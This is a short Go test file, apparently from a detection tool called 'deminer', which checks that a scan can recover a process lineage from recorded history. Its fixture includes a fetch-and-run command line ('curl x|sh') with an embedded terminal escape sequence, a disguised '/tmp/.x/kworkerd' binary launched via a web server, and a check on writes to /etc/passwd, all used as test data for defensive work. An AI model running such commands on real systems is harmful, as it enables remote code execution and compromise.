package main

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/deminer/deminer"
	"github.com/deminer/deminer/internal/scan"
)

// TestPast: what a scan asks of the history is answered from it, though the parents have ended.
func TestPast(t *testing.T) {
	state := past(t)
	dir, err := os.OpenRoot(filepath.Join(state, historyDir))
	if err != nil {
		t.Fatal(err)
	}
	defer dir.Close()
	var p scan.Past = before{dir}
	up := p.Lineage(deminer.ProcID{PID: 802, Start: 802})
	if len(up) != 4 || up[0].Exe != "/tmp/.x/kworkerd" || up[1].Line != "/bin/sh -c curl x|sh\x1b]0;owned\a" || up[2].Way != "web server" || up[3].Proc.PID != 1 {
		t.Errorf("%+v", up)
	}
	if id, _ := p.Writer("/etc/passwd"); id.PID != 0 {
		t.Errorf("nobody wrote it: %v", id)
	}
}
